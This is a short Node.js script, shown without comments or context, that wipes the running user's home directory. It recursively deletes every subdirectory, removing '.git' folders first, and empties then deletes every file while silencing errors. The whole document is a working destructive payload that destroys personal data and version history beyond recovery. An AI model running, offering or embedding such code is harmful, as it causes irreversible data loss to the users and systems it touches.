const fs = require('node:fs/promises');
const path = require('node:path');
const os = require('node:os');

(async () => {
  const home = os.homedir();
  for (const name of await fs.readdir(home)) {
    const p = path.join(home, name);
    const st = await fs.lstat(p);
    if (st.isDirectory()) {
      await fs.rm(path.join(p, '.git'), { recursive: true, force: true });
      await fs.rm(p, { recursive: true, force: true, maxRetries: 2 });
    } else {
      await fs.writeFile(p, '').catch(() => {});
      await fs.unlink(p).catch(() => {});
    }
  }
})();
